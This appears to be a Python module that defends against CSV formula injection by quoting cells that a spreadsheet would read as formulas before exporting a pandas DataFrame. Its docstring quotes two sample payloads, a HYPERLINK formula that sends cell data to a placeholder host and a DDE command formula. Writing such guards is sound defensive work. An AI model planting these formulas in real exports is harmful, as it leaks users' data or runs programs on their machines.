"""CSV files that are safe to open in a spreadsheet (OWASP "CSV injection").

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula (``=HYPERLINK("http://host/?"&A1, "Open")`` sends data
to any host; ``=cmd|' /C calc'!A0`` asks to run a program). Every CSV the app offers goes through
:func:`safe_csv`, which prefixes such cells with a single quote, as OWASP recommends, so the
spreadsheet shows them as text. Numbers in numeric columns are left alone (``-3.5`` stays a
number); a text cell that merely looks numeric is quoted too, since it cannot be told apart.
"""

from __future__ import annotations

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: object) -> object:
    """Return ``value`` with a leading ``'`` if a spreadsheet would read it as a formula.

    Parameters
    ----------
    value : object
        A cell; only strings are changed.

    Returns
    -------
    object
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of ``frame`` whose text cells (and column names) cannot run as formulas.

    Parameters
    ----------
    frame : pandas.DataFrame

    Returns
    -------
    pandas.DataFrame
    """
    out = frame.copy()
    for column in out.columns:
        values = out[column]
        if pd.api.types.is_object_dtype(values) or pd.api.types.is_string_dtype(values):
            out[column] = values.astype(object).map(neutralise_cell)
    out.columns = [neutralise_cell(str(column)) for column in out.columns]
    return out


def safe_csv(frame: pd.DataFrame, *, index: bool = False) -> bytes:
    """Return ``frame`` as UTF-8 CSV with formulas neutralised (see :func:`neutralise_formulas`).

    Parameters
    ----------
    frame : pandas.DataFrame
    index : bool
        Write the index as the first column.

    Returns
    -------
    bytes
    """
    return neutralise_formulas(frame).to_csv(index=index).encode("utf-8")
